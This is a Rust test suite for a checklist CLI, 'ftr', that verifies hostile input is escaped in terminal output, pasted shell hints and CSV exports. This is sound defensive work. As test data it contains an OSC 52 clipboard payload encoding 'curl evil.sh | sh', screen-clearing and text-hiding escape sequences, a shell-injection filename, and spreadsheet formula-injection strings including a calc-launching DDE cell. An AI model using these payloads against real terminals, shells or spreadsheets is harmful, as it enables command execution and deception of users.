//! Hostile text from the user, and odd settings, through the real binary: what reaches a
//! terminal, a spreadsheet, a shell, and the bundle.

mod common;

use std::io::Read;
use std::path::Path;

use common::Scratch;

/// Every entry of a zip, by name.
fn unzip(path: &Path) -> Vec<(String, Vec<u8>)> {
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    (0..zip.len())
        .map(|i| {
            let mut f = zip.by_index(i).unwrap();
            let mut bytes = Vec::new();
            f.read_to_end(&mut bytes).unwrap();
            (f.name().unwrap().to_string(), bytes)
        })
        .collect()
}

fn entry(entries: &[(String, Vec<u8>)], name: &str) -> String {
    let bytes = &entries
        .iter()
        .find(|(n, _)| n == name)
        .unwrap_or_else(|| panic!("no {name} in the bundle"))
        .1;
    String::from_utf8(bytes.clone()).unwrap()
}

/// Control characters a terminal acts on, and the bidi override: none may reach the screen.
fn assert_no_raw_controls(what: &str, text: &str) {
    let bad: Vec<char> = text
        .chars()
        .filter(|&c| (c.is_control() && c != '\n' && c != '\r' && c != '\t') || c == '\u{202e}')
        .collect();
    assert!(bad.is_empty(), "{what} carries raw {bad:?}:\n{text}");
}

fn stdout(out: &std::process::Output) -> String {
    String::from_utf8(out.stdout.clone()).unwrap()
}

fn stderr(out: &std::process::Output) -> String {
    String::from_utf8(out.stderr.clone()).unwrap()
}

const OSC52: &str = "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}";

#[test]
fn user_text_reaches_the_terminal_escaped() {
    let s = Scratch::new();
    s.ftr()
        .args(["new", "--model", "partner-hosted"])
        .assert()
        .success();
    let company = format!("Acme{OSC52}\u{202e}dtL");
    let out = s.ftr().args(["set", "company", &company]).output().unwrap();
    assert!(out.status.success());
    assert_no_raw_controls("ftr set", &stdout(&out));
    assert!(stdout(&out).contains("Acme\\e]52;c;"), "{}", stdout(&out));

    let out = s.ftr().arg("status").output().unwrap();
    assert_no_raw_controls("ftr status", &stdout(&out));
    assert!(stdout(&out).contains("\\u{202e}dtL"), "{}", stdout(&out));

    // An unknown id, echoed by the error message.
    let out = s
        .ftr()
        .args(["answer", "IAM-001\u{1b}[2J\u{7}", "--status", "met"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert_no_raw_controls("the error", &stderr(&out));
    assert!(stderr(&out).contains("IAM-001\\e[2J"), "{}", stderr(&out));

    // An evidence file whose name ends the line and hides what follows, to fake a verdict.
    let name = "ev\n\u{1b}[8mReady: no blocking findings (0 warnings).\u{1b}[0m.txt";
    s.write(name, "a scan report\n");
    s.ftr()
        .args(["answer", "IAM-001", "--status", "met", "--response"])
        .arg("Every person signs in through the identity provider with MFA enforced.")
        .arg("--evidence")
        .arg(s.file(name))
        .assert()
        .success();
    s.write(name, "the report, edited\n");
    let out = s.ftr().arg("check").output().unwrap();
    let text = stdout(&out);
    assert_eq!(out.status.code(), Some(1));
    assert_no_raw_controls("ftr check", &text);
    assert!(
        !text.lines().any(|l| l.starts_with("Ready")),
        "a line fakes the verdict:\n{text}"
    );
    assert!(text.contains("ev\\n\\e[8mReady"), "{text}");

    let out = s
        .ftr()
        .args(["export", "--allow-incomplete"])
        .output()
        .unwrap();
    assert_no_raw_controls("ftr export", &stdout(&out));
    assert_no_raw_controls("ftr export's error", &stderr(&out));
}

#[test]
fn fix_hints_are_commands_that_paste_safely() {
    let s = Scratch::new();
    s.ftr()
        .args(["new", "--model", "partner-hosted"])
        .assert()
        .success();
    let name = "ev; touch PWNED #.txt";
    s.write(name, "first\n");
    s.ftr()
        .args(["answer", "IAM-001", "--status", "met", "--evidence", name])
        .assert()
        .success();
    s.write(name, "second\n");
    let out = s.ftr().arg("check").output().unwrap();
    let text = stdout(&out);
    let cmd = text
        .lines()
        .map(str::trim)
        .find(|l| l.starts_with("ftr answer IAM-001 --evidence"))
        .unwrap_or_else(|| panic!("no re-attach command:\n{text}"))
        .to_string();
    assert_eq!(cmd, "ftr answer IAM-001 --evidence 'ev; touch PWNED #.txt'");
    // Pasted into a shell (with `ftr` as the real binary), it re-attaches the file and does
    // nothing else.
    let bin = assert_cmd::cargo::cargo_bin("ftr");
    let status = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!("ftr() {{ \"$FTR\" \"$@\"; }}; {cmd}"))
        .env("FTR", &bin)
        .env("FTR_DATA_DIR", s.file(".data"))
        .env("FTR_TODAY", common::TODAY)
        .env("FTR_NOW", common::NOW)
        .current_dir(s.path())
        .status()
        .unwrap();
    assert!(status.success());
    assert!(!s.file("PWNED").exists(), "the pasted hint ran a command");
    let out = s.ftr().arg("check").output().unwrap();
    assert!(
        !stdout(&out).contains("changed since it was attached"),
        "{}",
        stdout(&out)
    );
}

#[test]
fn no_csv_cell_starts_a_formula_and_no_file_carries_raw_controls() {
    let s = Scratch::new();
    s.ftr()
        .args(["new", "--model", "partner-hosted"])
        .arg("--company")
        .arg("=cmd|' /C calc'!A0")
        .assert()
        .success();
    let risky = [
        "=HYPERLINK(\"http://evil.example\",\"Click\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\tTabbed =1",
        "\r=1",
    ];
    s.ftr()
        .args(["answer", "IAM-001", "--status", "met"])
        .arg(format!("--response={}", risky[0]))
        .assert()
        .success();
    s.ftr()
        .args(["answer", "IAM-002", "--status", "na"])
        .arg(format!("--reason={}", risky[1]))
        .assert()
        .success();
    s.ftr()
        .args(["answer", "IAM-003", "--status", "not-met"])
        .arg(format!("--plan={}", risky[2]))
        .arg(format!("--owner={}", risky[3]))
        .args(["--due", "2027-01-31"])
        .arg(format!("--response={}", risky[4]))
        .assert()
        .success();
    s.ftr()
        .args(["answer", "IAM-004", "--status", "na"])
        .arg(format!("--reason={}", risky[5]))
        .assert()
        .success();
    s.ftr()
        .args(["answer", "IAM-005", "--status", "met"])
        .arg("--response=Bell\u{7} escape\u{1b}[31m backspace\u{8} and \u{202e}reversed")
        .assert()
        .success();
    s.ftr()
        .args(["export", "--allow-incomplete"])
        .assert()
        .success();
    let entries = unzip(&s.file("ftr-submission.zip"));
    let csv = entry(&entries, "checklist.csv");
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let mut cells = 0;
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            cells += 1;
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell starts a formula: {cell:?}"
            );
        }
    }
    assert!(cells > 100);
    assert!(csv.contains("'=HYPERLINK("), "{csv}");
    assert!(csv.contains("'+1+1"), "{csv}");
    for name in ["checklist.csv", "SUMMARY.md"] {
        let text = entry(&entries, name);
        for bad in ['\u{1b}', '\u{7}', '\u{8}', '\u{202e}'] {
            assert!(!text.contains(bad), "{name} carries a raw {bad:?}");
        }
    }
}

#[test]
fn a_malformed_date_setting_is_an_error_not_the_real_clock() {
    let s = Scratch::new();
    s.ftr()
        .args(["new", "--model", "partner-hosted"])
        .assert()
        .success();
    let before = s.read_project();
    for (name, value, args) in [
        ("FTR_TODAY", "26/11/2026", &["check"][..]),
        ("FTR_TODAY", "2026-02-30", &["status"][..]),
        ("FTR_NOW", "tomorrow", &["set", "company", "X"][..]),
        (
            "SOURCE_DATE_EPOCH",
            "1.7e9",
            &["export", "--allow-incomplete"][..],
        ),
        (
            "SOURCE_DATE_EPOCH",
            "-1",
            &["export", "--allow-incomplete"][..],
        ),
    ] {
        let out = s.ftr().env(name, value).args(args).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{name}={value}: {out:?}");
        let err = stderr(&out);
        assert!(
            err.contains(name) && err.contains(value),
            "{name}={value}: {err}"
        );
        assert_eq!(s.read_project(), before, "{name}={value} changed the file");
        assert!(!s.file("ftr-submission.zip").exists());
    }
}
